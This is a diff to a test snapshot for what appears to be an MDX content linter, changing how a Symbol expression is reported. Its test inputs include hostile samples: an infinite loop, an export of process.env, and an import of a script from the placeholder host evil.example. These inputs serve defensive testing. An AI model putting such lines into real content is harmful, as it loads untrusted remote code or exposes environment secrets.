@@ -253,7 +253,7 @@ it("reports every diagnostic with its location and a hint", () => {
       note.mdx:1:1  error  expression-not-allowed  the expression {(() => { while (true) {} })()} contains code, but code in content is never run (write the text itself; to show a brace, write \\{)
     "{{ a: 1 }} {Symbol('x')}"
       note.mdx:1:1  warning  expression-not-text  {{ a: 1 }} is an object, which cannot be shown as text (write the text itself; to show a brace, write \\{)
-      note.mdx:1:12  warning  expression-not-text  {Symbol('x')} is a symbol, which cannot be shown as text (write the text itself; to show a brace, write \\{)
+      note.mdx:1:12  error  expression-not-allowed  the expression {Symbol('x')} contains the call Symbol(…), but code in content is never run (write the text itself; to show a brace, write \\{)
     "export const x = process.env;"
       note.mdx:1:1  error  export-not-allowed  exports are not allowed: code in content is never run (write the text where it is used, or put shared text in a partial such as ./_part.mdx)
     "import X from \\"https://evil.example/x.js\\";\\n\\n<X />"
